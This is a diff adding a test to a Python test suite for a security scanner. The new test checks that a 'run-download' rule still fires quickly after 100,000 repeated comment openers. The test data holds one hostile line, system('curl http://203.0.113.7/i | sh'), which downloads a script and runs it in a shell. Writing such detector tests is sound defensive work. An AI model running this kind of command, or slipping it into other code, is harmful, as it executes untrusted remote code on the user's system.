@@ -532,3 +532,12 @@ def test_a_long_setup_with_many_names_is_read_whole() -> None:
     text = "AT=/opt/tools/of/the/team\n" + "".join(f'cp "$AT/{number}" ~/tools/{number}\n' for number in range(3000))
 
     assert scan_text(text, "a.sh").unread == ()
+
+
+def test_what_begins_a_comment_elsewhere_is_no_more_than_two_signs_where_a_hash_begins_one() -> None:
+    """Each was looked at to the end of the text, which took hours here."""
+    text = f"{'/* a ' * 100_000}\nsystem('curl http://203.0.113.7/i | sh')\n"
+
+    assert [(one.rule, one.line) for one in scan_text(text, "a.rb").findings if one.rule == "run-download"] == [
+        ("run-download", 2)
+    ]
